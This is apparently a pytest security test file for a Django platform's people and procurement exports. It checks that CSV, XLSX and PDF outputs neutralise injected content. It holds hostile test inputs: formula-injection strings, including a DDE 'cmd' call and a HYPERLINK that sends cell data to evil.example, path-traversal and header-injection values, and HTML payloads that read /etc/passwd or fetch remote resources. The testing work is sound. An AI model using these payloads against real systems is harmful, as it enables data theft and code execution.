"""Exports: a cell that a spreadsheet would run, a document that fetches, a file that opens in the browser, a name that escapes.

Elsewhere: rows of others by the filters (test_object_references.py, here), who exported whom (tests/beneficiaries/people).
"""

import csv
import io
from zipfile import ZipFile

import pikepdf
import pytest
from django.urls import reverse
from pypdf import PdfReader

from beneficiaries.people.models import PersonIdentity
from clauses.obligations.models import KickOff
from clauses.procurement.models import Lot, NoClauseDecision, Tender
from inclusiv.accounts.models import Organisation
from inclusiv.core.sheets import FORMULA_STARTS
from inclusiv.demo.make import beneficiaries
from inclusiv.demo.make import clauses as make
from reporting.publication.documents.portfolio import print_portfolio
from reporting.publication.documents.portfolio_figures import portfolio_of
from tests.attacks.conftest import Attacker
from tests.world import NOW, World

FORMULAS = (
    "=cmd|'/c calc'!A0", "+1+cmd", "-2+3", "@SUM(1+1)", '=HYPERLINK("https://evil.example?x="&A1;"ici")', "＝1+1",
    "=IMPORTXML(CONCAT(A1),B1)", '";=1+1;"', "'=1+1",
)  # fmt: skip


@pytest.fixture
def named(world: World) -> World:
    """People whose names are formulas: as an employer may type them, and as an import may have brought them."""
    for rank, formula in enumerate(FORMULAS):
        made = beneficiaries.dossier(world.own.structure, first_name=formula, last_name=f"{formula}{rank}")
        PersonIdentity.objects.filter(person=made.person_id).update(email=f"{rank}@example.org")
    return world


def exported(browser: Attacker, world: World, kind: str) -> bytes:
    answer = browser.acting(world.cast.facilitator).get(reverse("people:list"), {"export": kind})
    assert answer.headers["Content-Disposition"].startswith("attachment; filename=")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    return bytes(answer.received)


def test_to_have_a_spreadsheet_run_a_name_of_a_csv(named: World, browser: Attacker) -> None:
    text = exported(browser, named, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert {len(row) for row in rows} == {len(rows[0])}
    live = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert live == []
    assert [cell for row in rows for cell in row if cell.startswith("'=HYPERLINK")]


def test_to_have_a_spreadsheet_run_a_name_of_a_workbook(named: World, browser: Attacker) -> None:
    with ZipFile(io.BytesIO(exported(browser, named, "xlsx"))) as book:
        parts = {name: book.read(name).decode() for name in book.namelist()}
    cells = " ".join(text for name, text in parts.items() if name.startswith("xl/worksheets/"))
    assert "=cmd|" in "".join(parts.values())
    assert [mark for mark in ("<f>", "<f ", "<hyperlink") if mark in cells] == []
    assert [name for name in parts if "external" in name.lower() or name.endswith(".bin")] == []


@pytest.mark.parametrize("kind", ["html", "exe", "../../etc/passwd", "csv\r\nSet-Cookie: a=b", "CSV"])
def test_to_have_an_export_of_a_kind_of_one_s_own(world: World, browser: Attacker, kind: str) -> None:
    answer = browser.acting(world.cast.facilitator).get(reverse("people:list"), {"export": kind})
    assert answer.headers["Content-Type"].startswith("text/html")
    assert "Content-Disposition" not in answer.headers
    assert "Set-Cookie" not in answer.headers


def test_to_have_a_spreadsheet_run_why_there_is_no_clause(world: World, browser: Attacker) -> None:
    """The register of the law leaves as a file too: the words of a buyer, read by who follows it."""
    NoClauseDecision.objects.bulk_create(
        NoClauseDecision(
            tender=make.tender(
                buyer=world.own.buyer, structure=world.own.structure, reference=f"{rank}", title=formula
            ),
            reason="OTHER", text=formula, decided_by=formula, decided_on=NOW.date(), recorded_at=NOW,
        )
        for rank, formula in enumerate(FORMULAS)
    )  # fmt: skip
    address = reverse("obligations:no-clause-register")
    browser.acting(world.cast.facilitator)
    rows = list(csv.reader(io.StringIO(received(browser, address, "csv").decode("utf-8-sig")), delimiter=";"))
    assert [len(row) for row in rows] == [len(rows[0])] * (len(FORMULAS) + 1)
    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)] == []
    with ZipFile(io.BytesIO(received(browser, address, "xlsx"))) as parts:
        assert "<f>" not in parts.read("xl/worksheets/sheet1.xml").decode()


LIVE = (
    '<img src="file:///etc/passwd">', "<style>@import url(https://evil.example/x.css)</style>",
    '<a href="https://evil.example">ici</a>', "</title><script>x</script>", '" style="background:url(//evil.example)',
)  # fmt: skip


@pytest.mark.parametrize("typed", LIVE)
def test_to_have_a_document_read_a_file_fetch_or_lead_elsewhere(
    world: World, browser: Attacker, typed: str
) -> None:
    """In the words of a tender, of a company and of a meeting: printed as they were typed, nothing is read for them."""
    tender = world.own.tender
    Tender.objects.filter(pk=tender.pk).update(title=typed)
    Lot.objects.filter(tender=tender).update(title=typed)
    Organisation.objects.filter(pk__in=[world.own.buyer.pk, world.own.contractor.pk]).update(name=typed)
    KickOff.objects.filter(tender=tender).update(attended=typed, decisions=typed, place=typed)
    minutes = browser.acting(world.cast.facilitator).get(
        reverse("obligations:kick-off-minutes", args=[tender.pk])
    )
    listed = print_portfolio(portfolio_of(world.cast.facilitator, "", code="783Z4Z5DHY", at=NOW))
    for content in (minutes.received, listed.content):
        words = "".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)
        assert typed.replace(" ", "")[:20] in "".join(words.split())
        with pikepdf.open(io.BytesIO(content)) as book:
            known = [set(one.keys()) for one in book.objects if isinstance(one, pikepdf.Dictionary)]
        assert [keys for keys in known if keys & {"/URI", "/Launch", "/JS"}] == []


def received(browser: Attacker, address: str, kind: str) -> bytes:
    return bytes(browser.get(address, {"export": kind}).received)
